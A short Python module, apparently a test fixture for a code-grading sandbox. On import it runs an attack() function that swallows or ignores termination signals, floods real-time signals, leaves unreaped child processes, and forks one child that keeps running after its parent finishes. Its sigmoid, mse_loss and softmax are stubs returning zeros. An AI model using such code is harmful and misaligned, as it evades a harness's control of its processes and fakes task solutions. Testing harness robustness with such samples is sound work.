"""Ignores SIGPIPE and SIGCHLD, handles all else with code that returns, and fills the queue of real-time signals.

aims: stay
"""

import os
import signal
import time

import numpy as np


def attack():
    for number in signal.valid_signals():
        try:
            signal.signal(number, lambda number, frame: None)
        except (OSError, ValueError):
            pass
    for number in (signal.SIGPIPE, signal.SIGCHLD, signal.SIGHUP, signal.SIGTERM):
        signal.signal(number, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
    for _ in range(5000):
        try:
            os.kill(os.getpid(), signal.SIGRTMIN)
        except OSError:
            break
    # children that nobody waits for, and one that goes on after its parent has answered
    for _ in range(20):
        if os.fork() == 0:
            os._exit(0)
    if os.fork() == 0:
        end = time.monotonic() + 40
        while time.monotonic() < end:
            time.sleep(1)
        os._exit(0)


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
